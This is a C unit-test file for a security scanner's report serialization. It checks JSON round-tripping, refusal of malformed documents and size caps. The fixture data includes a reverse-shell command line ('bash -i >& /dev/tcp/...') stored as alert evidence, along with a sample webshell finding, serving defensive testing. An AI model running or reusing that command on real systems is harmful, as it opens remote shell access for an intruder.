/* Unit tests for reading a report back from its JSON (report_from_json,
 * finding_from_json): every kind of field survives to_json → from_json →
 * to_json, and hostile documents are refused or their bad items left out
 * with a note. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/report.h"

/* A report with one of everything the writer knows: findings of several
 * categories and levels with every field (evidence of strings, integers,
 * nested lists and objects, a real, text that is not valid UTF-8),
 * alerts with and without host, title and remediation, notes of the three
 * kinds, statistics, the OS identity and times with and without fractions. */
static report_t *full_report(void)
{
        report_t *r = report_new("web1.example", "/srv/image");
        finding_t *f;
        alert_t *a;
        json_t *nested;

        assert_non_null(r);
        r->started_us = 1764201310128954LL;
        r->finished_us = 1764201370000000LL;

        f = finding_new(CAT_VULNERABILITY, "CVE-2024-3094", "xz-utils", FINDING_HIGH);
        assert_non_null(f);
        assert_int_equal(finding_set_title(f, "xz-utils 5.6.0 has a backdoor"), 0);
        assert_int_equal(finding_set_detail(f, "Line one.\nLine two \"quoted\" \t tab."), 0);
        assert_int_equal(finding_set_remediation(f, "apt-get install --only-upgrade xz-utils"), 0);
        assert_int_equal(finding_add_evidence_str(f, "package", "xz-utils"), 0);
        assert_int_equal(finding_add_evidence_str(f, "version", "5.6.0-0.1"), 0);
        assert_int_equal(finding_add_evidence_int(f, "cvss_x10", 100), 0);
        assert_int_equal(finding_add_evidence_int(f, "big", -9007199254740993LL), 0);
        nested = json_pack("{s:[s,i,{s:b}], s:f, s:n}", "locations", "/a:1", 2, "deep", 1, "ratio",
                           0.25, "none");
        assert_non_null(nested);
        assert_int_equal(json_object_set_new(f->evidence, "more", nested), 0);
        assert_int_equal(finding_add_reference(f, "https://nvd.nist.gov/vuln/detail/CVE-2024-3094"),
                         0);
        assert_int_equal(finding_add_reference(f, "DSA-5649-1"), 0);
        assert_int_equal(finding_add_tag(f, "rce"), 0);
        assert_int_equal(finding_add_tag(f, "cis:1.2.3"), 0);
        assert_int_equal(report_add_finding(r, f), 0);

        /* Not valid UTF-8 in check and object: the id was computed from the
         * bytes, the JSON shows U+FFFD, and the id must survive as written. */
        f = finding_new(CAT_MALWARE, "webshell.php\xff", "/var/www/x\xfe.php", FINDING_MEDIUM);
        assert_non_null(f);
        assert_int_equal(finding_set_title(f, "A webshell in /var/www/x\xfe.php"), 0);
        assert_int_equal(report_add_finding(r, f), 0);

        f = finding_new(CAT_SECRET, "github-token", "0123abcd", FINDING_LOW);
        assert_non_null(f);
        assert_int_equal(report_add_finding(r, f), 0); /* no title, detail, remediation */
        for (int c = CAT_BASELINE; c < CAT__MAX; c++) {
                f = finding_new((finding_category_t)c, "check", "object", FINDING_MEDIUM);
                assert_non_null(f);
                assert_int_equal(finding_set_title(f, "category %d", c), 0);
                assert_int_equal(report_add_finding(r, f), 0);
        }

        a = alert_new(ALERT_ABNORMAL_PROCESS, "process.reverse_shell", "pid 4242", ALERT_URGENT,
                      1764201311000001LL);
        assert_non_null(a);
        assert_int_equal(alert_set_title(a, "A reverse shell: bash -i"), 0);
        assert_int_equal(alert_set_remediation(a, "kill -9 4242"), 0);
        assert_int_equal(alert_set_host(a, "web1.example"), 0);
        assert_int_equal(alert_add_evidence_int(a, "pid", 4242), 0);
        assert_int_equal(alert_add_evidence_str(a, "cmdline", "bash -i >& /dev/tcp/x/1 0>&1"), 0);
        assert_int_equal(report_add_alert(r, a), 0);
        a = alert_new(ALERT_DATA_LEAK, "github-token", "", ALERT_REMINDER, 0);
        assert_non_null(a);
        assert_int_equal(report_add_alert(r, a), 0); /* no host, title, remediation */

        assert_int_equal(
                report_note(r, REPORT_NOTE_INFO, "vulnerability", "no feed for %s", "Debian 12"),
                0);
        assert_int_equal(report_note(r, REPORT_NOTE_WARNING, "/var/lib/dpkg/status:12",
                                     "a bad record: \x01\n"),
                         0);
        assert_int_equal(report_note(r, REPORT_NOTE_ERROR, "malware", "scanner failed: %s",
                                     "Permission denied"),
                         0);
        assert_int_equal(report_count(r, "baseline", "checks", 42), 0);
        assert_int_equal(report_count(r, "baseline", "elapsed_ms", 0), 0);
        assert_int_equal(report_count(r, "secret", "files", -1), 0);
        report_set_os(r, json_pack("{s:s, s:s, s:[s,s]}", "id", "debian", "version_id", "12",
                                   "id_like", "a", "b"));
        return r;
}

static json_t *roundtrip(const json_t *doc, report_t **ret)
{
        char *err = NULL;
        json_t *again;

        assert_int_equal(report_from_json(doc, ret, &err), 0);
        assert_null(err);
        again = report_to_json(*ret);
        assert_non_null(again);
        return again;
}

static void test_roundtrip_every_field(void **state)
{
        report_t *r = full_report(), *back = NULL;
        json_t *doc, *again;
        (void)state;

        doc = report_to_json(r);
        assert_non_null(doc);
        again = roundtrip(doc, &back);
        if (!json_equal(doc, again)) {
                char *a = json_dumps(doc, JSON_INDENT(1) | JSON_SORT_KEYS);
                char *b = json_dumps(again, JSON_INDENT(1) | JSON_SORT_KEYS);
                fprintf(stderr, "written:\n%s\nread back:\n%s\n", a, b);
                free(a);
                free(b);
                fail();
        }
        /* The parts the JSON does not spell out in one key. */
        assert_int_equal(back->n_findings, r->n_findings);
        assert_int_equal(back->n_alerts, r->n_alerts);
        assert_int_equal(back->n_notes, r->n_notes);
        assert_int_equal(back->started_us, r->started_us);
        assert_int_equal(back->finished_us, r->finished_us);
        for (size_t i = 0; i < r->n_findings; i++) {
                assert_string_equal(back->findings[i]->id, r->findings[i]->id);
                assert_int_equal(back->findings[i]->category, r->findings[i]->category);
        }
        assert_string_equal(back->findings[0]->object, "xz-utils");
        for (size_t i = 0; i < r->n_alerts; i++) {
                assert_string_equal(back->alerts[i]->id, r->alerts[i]->id);
                assert_string_equal(back->alerts[i]->subject, r->alerts[i]->subject);
                assert_int_equal(back->alerts[i]->time_us, r->alerts[i]->time_us);
        }
        /* The dedupe key is the same, so stores fold the alert as before. */
        {
                char *k1 = alert_dedupe_key(r->alerts[0]), *k2 = alert_dedupe_key(back->alerts[0]);
                assert_string_equal(k1, k2);
                free(k1);
                free(k2);
        }
        assert_int_equal(report_score(back), report_score(r));
        json_decref(doc);
        json_decref(again);
        report_free(back);
        report_free(r);
}

static void test_roundtrip_empty(void **state)
{
        report_t *r = report_new("h", "/"), *back = NULL;
        json_t *doc, *again;
        (void)state;

        r->started_us = 0;
        r->finished_us = 1;
        doc = report_to_json(r);
        again = roundtrip(doc, &back);
        assert_true(json_equal(doc, again));
        assert_null(back->os);
        json_decref(doc);
        json_decref(again);
        report_free(back);
        report_free(r);
}

/* The written text, parsed again: what the agent reads from `vigil scan`. */
static void test_roundtrip_through_text(void **state)
{
        report_t *r = full_report(), *back = NULL;
        char *out = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&out, &len);
        json_error_t jerr;
        json_t *doc, *again, *orig;
        (void)state;

        assert_non_null(f);
        assert_int_equal(report_write_json(r, f), 0);
        fclose(f);
        doc = json_loadb(out, len, 0, &jerr);
        assert_non_null(doc);
        again = roundtrip(doc, &back);
        orig = report_to_json(r);
        assert_true(json_equal(orig, again));
        json_decref(orig);
        json_decref(doc);
        json_decref(again);
        report_free(back);
        report_free(r);
        free(out);
}

static void expect_refused(const char *text)
{
        json_error_t jerr;
        json_t *doc = json_loads(text, 0, &jerr);
        report_t *r = NULL;
        char *err = NULL;

        assert_non_null(doc);
        assert_int_equal(report_from_json(doc, &r, &err), -EINVAL);
        assert_null(r);
        assert_non_null(err);
        free(err);
        json_decref(doc);
}

#define TIMES "\"started\":\"2026-11-27T06:00:00Z\",\"finished\":\"2026-11-27T06:00:01.5Z\""

static void test_refused_documents(void **state)
{
        (void)state;
        expect_refused("[]");
        expect_refused("{}");
        expect_refused("{\"host\":1,\"root\":\"/\"," TIMES "}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\"}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\",\"started\":\"yesterday\","
                       "\"finished\":\"2026-11-27T06:00:00Z\"}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\",\"started\":\"2026-13-27T06:00:00Z\","
                       "\"finished\":\"2026-11-27T06:00:00Z\"}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\"," TIMES ",\"findings\":{}}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\"," TIMES ",\"alerts\":\"x\"}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\"," TIMES ",\"stats\":[]}");
        expect_refused("{\"host\":\"h\",\"root\":\"/\"," TIMES ",\"os\":\"debian\"}");
}

static void test_bad_items_left_out_with_notes(void **state)
{
        static const char text[] =
                "{\"host\":\"h\",\"root\":\"/\"," TIMES ",\"unknown\":{\"x\":1},"
                "\"findings\":["
                /* good, with an unknown key */
                "{\"id\":\"0123456789abcdef0123456789abcdef\",\"category\":\"secret\","
                "\"check\":\"c\",\"object\":\"o\",\"level\":\"low\",\"extra\":[1]},"
                /* bad: level */
                "{\"id\":\"0123456789abcdef0123456789abcdef\",\"category\":\"secret\","
                "\"check\":\"c\",\"level\":\"huge\"},"
                /* bad: id */
                "{\"id\":\"0123456789ABCDEF0123456789abcdef\",\"category\":\"secret\","
                "\"check\":\"c\",\"level\":\"low\"},"
                /* bad: category, tags */
                "{\"id\":\"0123456789abcdef0123456789abcdef\",\"category\":\"x\","
                "\"check\":\"c\",\"level\":\"low\"},"
                "{\"id\":\"0123456789abcdef0123456789abcdee\",\"category\":\"secret\","
                "\"check\":\"c\",\"level\":\"low\",\"tags\":[1]},"
                "7],"
                "\"alerts\":["
                "{\"id\":\"0123456789abcdef0123456789abcdef\",\"type\":\"data_leak\","
                "\"rule\":\"r\",\"level\":\"urgent\",\"time\":\"2026-11-27T06:00:00.000001Z\","
                "\"evidence\":{}},"
                "{\"id\":\"0123456789abcdef0123456789abcdef\",\"type\":\"data_leak\","
                "\"rule\":\"r\",\"level\":\"urgent\",\"time\":\"06:00\",\"evidence\":{}}],"
                "\"notes\":[{\"kind\":\"error\",\"source\":\"s\",\"message\":\"m\"},"
                "{\"kind\":\"fatal\",\"source\":\"s\",\"message\":\"m\"}],"
                "\"stats\":{\"a\":{\"n\":1,\"x\":\"y\"},\"b\":3}}";
        json_error_t jerr;
        json_t *doc = json_loads(text, 0, &jerr);
        report_t *r = NULL;
        char *err = NULL;
        size_t warnings = 0;
        (void)state;

        assert_non_null(doc);
        assert_int_equal(report_from_json(doc, &r, &err), 0);
        assert_int_equal(r->n_findings, 1);
        assert_string_equal(r->findings[0]->object, "o");
        assert_int_equal(r->n_alerts, 1);
        assert_string_equal(r->alerts[0]->subject, "");
        assert_int_equal(r->alerts[0]->time_us % 1000000, 1);
        assert_string_equal(r->notes[0].message, "m");
        for (size_t i = 0; i < r->n_notes; i++)
                if (r->notes[i].kind == REPORT_NOTE_WARNING &&
                    strcmp(r->notes[i].source, "report") == 0)
                        warnings++;
        /* 5 findings, 1 alert, 1 note, 1 counter, 1 scanner's stats. */
        assert_int_equal(warnings, 9);
        assert_int_equal(json_integer_value(json_object_get(json_object_get(r->stats, "a"), "n")),
                         1);
        assert_null(json_object_get(json_object_get(r->stats, "a"), "x"));
        report_free(r);
        json_decref(doc);
}

static void test_caps(void **state)
{
        json_t *doc =
                json_pack("{s:s, s:s, s:s, s:s, s:[]}", "host", "h", "root", "/", "started",
                          "2026-11-27T06:00:00Z", "finished", "2026-11-27T06:00:00Z", "notes");
        json_t *deep = json_object(), *cur = deep, *f;
        report_t *r = NULL;
        char *err = NULL;
        (void)state;

        /* Evidence nested deeper than the cap. */
        for (int i = 0; i < FINDING_JSON_MAX_DEPTH + 2; i++) {
                json_t *next = json_object();
                json_object_set_new(cur, "d", next);
                cur = next;
        }
        f = json_pack("{s:s, s:s, s:s, s:s, s:o}", "id", "0123456789abcdef0123456789abcdef",
                      "category", "baseline", "check", "c", "level", "low", "evidence", deep);
        assert_int_equal(finding_from_json(f, &(finding_t *){ NULL }, &err), -EINVAL);
        assert_non_null(strstr(err, "nested"));
        free(err);
        err = NULL;
        json_decref(f);

        /* A check longer than the cap. */
        {
                size_t n = FINDING_JSON_MAX_NAME + 1;
                char *big = malloc(n + 1);
                memset(big, 'a', n);
                big[n] = 0;
                f = json_pack("{s:s, s:s, s:s, s:s}", "id", "0123456789abcdef0123456789abcdef",
                              "category", "baseline", "check", big, "level", "low");
                free(big);
                assert_int_equal(finding_from_json(f, &(finding_t *){ NULL }, &err), -EINVAL);
                free(err);
                err = NULL;
                json_decref(f);
        }

        /* More notes than the cap: the whole document is refused. */
        for (int i = 0; i <= REPORT_JSON_MAX_NOTES; i++)
                json_array_append_new(
                        json_object_get(doc, "notes"),
                        json_pack("{s:s,s:s,s:s}", "kind", "info", "source", "s", "message", "m"));
        assert_int_equal(report_from_json(doc, &r, &err), -EINVAL);
        assert_null(r);
        free(err);
        json_decref(doc);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_roundtrip_every_field),
                cmocka_unit_test(test_roundtrip_empty),
                cmocka_unit_test(test_roundtrip_through_text),
                cmocka_unit_test(test_refused_documents),
                cmocka_unit_test(test_bad_items_left_out_with_notes),
                cmocka_unit_test(test_caps),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
